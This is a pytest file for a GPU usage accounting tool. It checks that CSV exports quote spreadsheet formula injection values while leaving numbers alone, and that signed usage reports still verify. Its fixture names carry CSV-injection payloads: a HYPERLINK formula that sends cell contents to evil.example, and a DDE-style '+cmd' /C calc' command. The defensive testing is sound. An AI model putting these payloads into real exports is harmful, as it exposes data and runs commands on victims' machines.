"""CSV for spreadsheets: a user, account or partition name that starts like a formula (= + - @, OWASP "CSV
Injection") comes out as text ('=...), in every command's CSV and in a signed usage report that still verifies;
numbers, negative ones too, come out as numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from audit_cli import run

from gpuledger.accounting.audit import keygen
from gpuledger.collector.store import Store
from gpuledger.collector.validate import Batch
from gpuledger.output import csv_text
from gpuledger.schema.records import GpuSample

T0 = datetime(2026, 10, 6, tzinfo=UTC).timestamp()
USER = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
ACCOUNT = "+cmd' /C calc'!A0"
PARTITION = "@SUM(1+1)"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture()
def data_dir(tmp_path: Path) -> Path:
    """Job 102 of a user and account named like formulas, measured for an hour at SM activity 0.5."""
    d = tmp_path / "data"
    store = Store(d / "gpuledger.sqlite", clock=lambda: T0 + 30 * 86400)
    try:
        store.ingest(Batch("a", 1, "n1", tuple(
            GpuSample(ts=T0 + 10 * k, host="n1", gpu_uuid="GPU-0", gpu_index=0, model="NVIDIA H200",
                      sm_active_ratio=0.5, energy_joules=300.0 * 10 * k, job_ids=("102",)) for k in range(361))))
    finally:
        store.close()
    (d / "gpuledger.toml").write_text("[report.price_per_gpu_hour]\ndefault = 1.0\n")
    sacct = tmp_path / "sacct.txt"
    sacct.write_text("JobID|Cluster|User|Account|Partition|NodeList|AllocTRES|Submit|Start|End|State\n"
                     f"102|c|{USER}|{ACCOUNT}|{PARTITION}|n1|gres/gpu=1|2026-10-06T00:00:00|2026-10-06T00:00:00|"
                     "2026-10-06T01:00:00|COMPLETED\n")
    r = run("jobs", "import", "--data-dir", d, "--sacct-parsable", sacct)
    assert r.exit_code == 0, r.output
    return d


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_one_writer_quotes_formula_text_and_leaves_numbers_alone() -> None:
    text = csv_text(["name", "value"], [["=1+1", -1.5], ["+x", -3], ["-y", 0.1 + 0.2], ["@z", None],
                                        ["\tt", True], ["\rr", "a=b"], ["plain", "-"], ["x\r=1+1", "y\n=2"]])
    assert cells(text) == [["name", "value"], ["'=1+1", "-1.5"], ["'+x", "-3"], ["'-y", "0.30000000000000004"],
                           ["'@z", ""], ["'\tt", "True"], ["'\rr", "a=b"], ["plain", "'-"],
                           ["x\r=1+1", "y\n=2"]]  # a line break inside a cell is quoted: no row starts with =
    assert text.count("\n") == 10 and "\r\n" not in text  # 9 rows, and the one inside the cell


@pytest.mark.parametrize("argv", [
    ("report", "usage", "--period", "2026-10", "--by", "user"),
    ("report", "usage", "--period", "2026-10", "--by", "account"),
    ("report", "usage", "--period", "2026-10", "--by", "partition"),
    ("jobs", "list"),
    ("report", "jobs"),
    ("report", "idle", "--threshold", "0.6"),
])
def test_no_command_writes_a_formula_cell(data_dir: Path, argv: tuple[str, ...]) -> None:
    r = run(*argv, "--data-dir", data_dir, "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = cells(r.stdout)
    shown = {c for row in rows[1:] for c in row}
    named = {"'" + USER, "'" + ACCOUNT, "'" + PARTITION} & shown
    assert named, rows  # the names are there, as text
    for row in rows[1:]:
        for c in row:
            if c.startswith(FORMULA):  # what is left starting so is a number
                float(c)


def test_a_signed_usage_report_is_signed_as_written_and_verifies(data_dir: Path, tmp_path: Path) -> None:
    keygen()
    report = tmp_path / "usage.csv"
    r = run("report", "usage", "--data-dir", data_dir, "--period", "2026-10", "--by", "user", "--format", "csv",
            "-o", report)
    assert r.exit_code == 0 and "signed manifest" in r.output, r.output
    assert ["'" + USER] == [row[0] for row in cells(report.read_text()) if USER in row[0]]
    r = run("audit", "verify", report, "--data-dir", data_dir)
    assert r.exit_code == 0, r.output
